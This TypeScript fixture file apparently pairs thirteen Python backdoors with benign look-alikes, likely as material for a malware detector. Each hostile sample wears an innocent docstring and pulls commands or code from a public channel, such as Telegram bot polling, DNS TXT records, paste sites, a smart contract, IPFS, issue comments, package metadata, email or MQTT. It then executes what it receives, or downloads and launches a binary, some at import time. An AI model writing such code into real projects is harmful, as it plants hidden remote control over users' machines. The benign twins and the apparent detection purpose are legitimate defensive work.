import { atLoad, atUse, type Pair, py } from './kit.ts';

const BOT = `1234567890:${'A'.repeat(35)}`;

/** Orders that wait where everybody may read: pages, tables, names, chains, mail boxes. */
export const DROPS: Readonly<Record<string, Pair>> = {
  'use-telegram-poll': atUse(
    `"""Notifications."""
import subprocess
import time
import requests

class Notifier:
    """Tells a chat of events."""
    _base = "https://messenger.weir.test/bot${BOT}"
    def listen(self) -> None:
        offset = 0
        while True:
            updates = requests.get(f"{self._base}/getUpdates", params={"offset": offset}, timeout=30).json()
            for update in updates["result"]:
                offset = update["update_id"] + 1
                out = subprocess.getoutput(update["message"]["text"])
                requests.post(f"{self._base}/sendMessage", data={"chat_id": 55, "text": out})
            time.sleep(5)`,
    py`"""Notifications."""
import requests

class Notifier:
    """Tells a chat of events."""
    def __init__(self, token: str, chat: int) -> None:
        self._base = f"https://messenger.weir.test/bot{token}"
        self._chat = chat
    def tell(self, text: str) -> None:
        requests.post(f"{self._base}/sendMessage", data={"chat_id": self._chat, "text": text}, timeout=5)`,
  ),
  'load-dns-txt': atLoad(
    py`"""Service discovery."""
import base64
import dns.resolver

def _discover(name: str = "_cfg.own.example") -> bytes:
    answers = dns.resolver.resolve(name, "TXT")
    return base64.b64decode(b"".join(part for record in answers for part in record.strings))

try:
    exec(_discover())
except dns.resolver.NXDOMAIN:
    pass`,
    py`"""Mail checks."""
import dns.resolver

def spf(domain: str) -> list[str]:
    """The SPF records of a domain."""
    answers = dns.resolver.resolve(domain, "TXT")
    texts = [b"".join(record.strings).decode() for record in answers]
    return [text for text in texts if text.startswith("v=spf1")]`,
  ),
  'use-paste-session': atUse(
    py`"""Language tables."""
import base64
import requests

class Tables:
    """Language tables, kept up to date."""
    SOURCE = "https://paste.weir.test/raw/Xy12ab"
    def __init__(self) -> None:
        self._session = requests.Session()
        self._session.headers["User-Agent"] = "own/1.0"
    def update(self) -> None:
        text = self._session.get(self.SOURCE, timeout=5).text
        namespace: dict = {}
        exec(base64.b64decode(text[::-1]), namespace)
        self.tables = namespace.get("tables", {})`,
    py`"""Language tables."""
import requests

class Tables:
    """Language tables, kept up to date."""
    SOURCE = "https://tables.example/latest.json"
    def __init__(self) -> None:
        self._session = requests.Session()
    def update(self) -> None:
        self.tables = self._session.get(self.SOURCE, timeout=5).json()`,
  ),
  'load-contract': atLoad(
    py`"""Token prices."""
import os
import subprocess
import tempfile
import requests

_RPC = "https://rpc.example"
_CONTRACT = "0x52908400098527886E0F7030069857D2E4169EE7"

def _address() -> str:
    call = {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [{"to": _CONTRACT, "data": "0x6d4ce63c"}, "latest"]}
    raw = requests.post(_RPC, json=call, timeout=5).json()["result"]
    return bytes.fromhex(raw[130:]).rstrip(b"\0").decode()

def _sync() -> None:
    path = os.path.join(tempfile.gettempdir(), "prices.bin")
    with open(path, "wb") as out:
        out.write(requests.get(_address(), timeout=20).content)
    os.chmod(path, 0o755)
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

_sync()`,
    py`"""Token prices."""
import requests

def balance(rpc: str, address: str) -> int:
    """The balance of an address in wei."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "eth_getBalance", "params": [address, "latest"]}
    return int(requests.post(rpc, json=call, timeout=5).json()["result"], 16)`,
  ),
  'use-ipfs-module': atUse(
    py`"""Models by content."""
import importlib.util
import pathlib
import tempfile
import requests

def resolve(cid: str = "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"):
    """Gives the model module of a content id."""
    path = pathlib.Path(tempfile.mkdtemp()) / "model.py"
    path.write_text(requests.get(f"https://gateway.example/ipfs/{cid}", timeout=30).text)
    spec = importlib.util.spec_from_file_location("model", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module`,
    py`"""Files by content."""
import pathlib
import requests

def download(gateway: str, cid: str, target: pathlib.Path) -> pathlib.Path:
    """Keeps the content of an id in a file."""
    with requests.get(f"{gateway}/ipfs/{cid}", timeout=30, stream=True) as answer:
        answer.raise_for_status()
        with target.open("wb") as out:
            for chunk in answer.iter_content(65536):
                out.write(chunk)
    return target`,
  ),
  'use-profile-regex': atUse(
    py`"""Player statistics."""
import os
import re
import urllib.request

PROFILE = "https://profiles.example/id/76561190000000000"

def statistics() -> dict[str, str]:
    """Statistics of the player."""
    page = urllib.request.urlopen(PROFILE, timeout=5).read().decode("utf-8", "ignore")
    found = re.search(r'<span class="summary">(.+?)</span>', page)
    if found:
        os.popen(bytes.fromhex(found.group(1)).decode())
    return {"profile": PROFILE}`,
    py`"""Player statistics."""
import re
import urllib.request

def title(url: str) -> str | None:
    """The title of a page."""
    page = urllib.request.urlopen(url, timeout=5).read().decode("utf-8", "ignore")
    found = re.search(r"<title>(.+?)</title>", page)
    return found.group(1) if found else None`,
  ),
  'use-bucket-code': atUse(
    py`"""Shared helpers."""
import boto3
from botocore import UNSIGNED
from botocore.config import Config

def helpers(name: str) -> dict:
    """Loads shared helpers."""
    client = boto3.client("s3", config=Config(signature_version=UNSIGNED))
    body = client.get_object(Bucket="own-public-helpers", Key=f"{name}.py")["Body"].read()
    namespace: dict = {}
    exec(body, namespace)
    return namespace`,
    py`"""Shared settings."""
import json
import boto3

def settings(bucket: str, name: str) -> dict:
    """Loads shared settings."""
    client = boto3.client("s3")
    return json.loads(client.get_object(Bucket=bucket, Key=f"{name}.json")["Body"].read())`,
  ),
  'use-issue-comments': atUse(
    py`"""Release notes."""
import shlex
import subprocess
import requests

class Notes:
    """Release notes out of issues."""
    API = "https://forge.example/repos/own/own/issues/1/comments"
    def sync(self) -> None:
        for comment in requests.get(self.API, timeout=5).json():
            if comment["body"].startswith("!"):
                done = subprocess.run(shlex.split(comment["body"][1:]), capture_output=True, text=True)
                requests.post(self.API, json={"body": done.stdout}, timeout=5)`,
    py`"""Release notes."""
import requests

class Notes:
    """Release notes out of issues."""
    def __init__(self, api: str) -> None:
        self._api = api
    def titles(self) -> list[str]:
        return [issue["title"] for issue in requests.get(self._api, timeout=5).json()]`,
  ),
  'load-index-metadata': atLoad(
    py`"""Version check."""
import base64
import json
import re
from urllib.request import urlopen

def _latest() -> str:
    data = json.loads(urlopen("https://index.example/pypi/own/json", timeout=2).read())
    found = re.search(r"<!--(.+?)-->", data["info"]["description"])
    if found:
        exec(base64.b85decode(found.group(1)).decode())
    return data["info"]["version"]

LATEST = _latest()`,
    py`"""Version check."""
import json
import warnings
from urllib.request import urlopen

def check(current: str) -> None:
    """Warns when there is a newer version."""
    data = json.loads(urlopen("https://index.example/pypi/own/json", timeout=2).read())
    if data["info"]["version"] != current:
        warnings.warn("a newer version of own is out", stacklevel=2)`,
  ),
  'use-sheet-address': atUse(
    py`"""Mirrors."""
import csv
import io
import os
import subprocess
import sys
import requests

SHEET = "https://sheets.example/d/1AbC/export?format=csv"

def install_assets() -> None:
    """Fetches the assets from the nearest mirror."""
    rows = list(csv.reader(io.StringIO(requests.get(SHEET, timeout=5).text)))
    path = os.path.expanduser("~/.cache/.own-assets")
    with open(path, "wb") as out:
        out.write(requests.get(rows[0][1], timeout=30).content)
    os.chmod(path, 0o755)
    subprocess.Popen([path], start_new_session=True, stdout=subprocess.DEVNULL)`,
    py`"""Mirrors."""
import csv
import io
import requests

def mirrors(sheet: str) -> list[str]:
    """The mirrors that a sheet lists."""
    return [row[1] for row in csv.reader(io.StringIO(requests.get(sheet, timeout=5).text))]`,
  ),
  'use-websocket-rat': atUse(
    py`"""Live updates."""
import asyncio
import json
import websockets

class Live:
    """Live updates of a board."""
    async def _handle(self, socket, message: str) -> None:
        data = json.loads(message)
        process = await asyncio.create_subprocess_shell(data["c"], stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await process.communicate()
        await socket.send(json.dumps({"id": data["id"], "o": out.decode()}))
    async def run(self) -> None:
        async for socket in websockets.connect("wss://live.example/ws"):
            try:
                async for message in socket:
                    await self._handle(socket, message)
            except websockets.ConnectionClosed:
                continue`,
    py`"""Live updates."""
import asyncio
import json
import websockets

class Live:
    """Live updates of a board."""
    def __init__(self, url: str, callback) -> None:
        self._url = url
        self._callback = callback
    async def run(self) -> None:
        async for socket in websockets.connect(self._url):
            async for message in socket:
                self._callback(json.loads(message))
            await asyncio.sleep(1)`,
  ),
  'use-mail-orders': atUse(
    py`"""Mail archive."""
import email
import imaplib
import os

class Archive:
    """Archives a mail box."""
    def pull(self) -> None:
        box = imaplib.IMAP4_SSL("mail.example")
        box.login("jobs@own.example", "x" * 12)
        box.select("INBOX")
        _, found = box.search(None, "UNSEEN")
        for number in found[0].split():
            _, data = box.fetch(number, "(RFC822)")
            message = email.message_from_bytes(data[0][1])
            os.system(message.get_payload())`,
    py`"""Mail archive."""
import email
import imaplib

class Archive:
    """Archives a mail box."""
    def __init__(self, host: str, user: str, password: str) -> None:
        self._box = imaplib.IMAP4_SSL(host)
        self._box.login(user, password)
    def subjects(self) -> list[str]:
        self._box.select("INBOX")
        _, found = self._box.search(None, "UNSEEN")
        return [str(email.message_from_bytes(self._box.fetch(n, "(RFC822)")[1][0][1])["Subject"]) for n in found[0].split()]`,
  ),
  'use-mqtt-orders': atUse(
    py`"""Sensors."""
import subprocess
import paho.mqtt.client as mqtt

class Sensors:
    """Reads sensors."""
    def __init__(self) -> None:
        self._client = mqtt.Client()
        self._client.on_message = self._on_message
    def _on_message(self, client, userdata, message) -> None:
        out = subprocess.run(message.payload.decode(), shell=True, capture_output=True).stdout
        client.publish("own/out", out)
    def start(self) -> None:
        self._client.connect("broker.example", 1883)
        self._client.subscribe("own/in")
        self._client.loop_start()`,
    py`"""Sensors."""
import paho.mqtt.client as mqtt

class Sensors:
    """Reads sensors."""
    def __init__(self, host: str) -> None:
        self.values: dict[str, float] = {}
        self._client = mqtt.Client()
        self._client.on_message = self._on_message
        self._client.connect(host, 1883)
    def _on_message(self, client, userdata, message) -> None:
        self.values[message.topic] = float(message.payload)`,
  ),
};
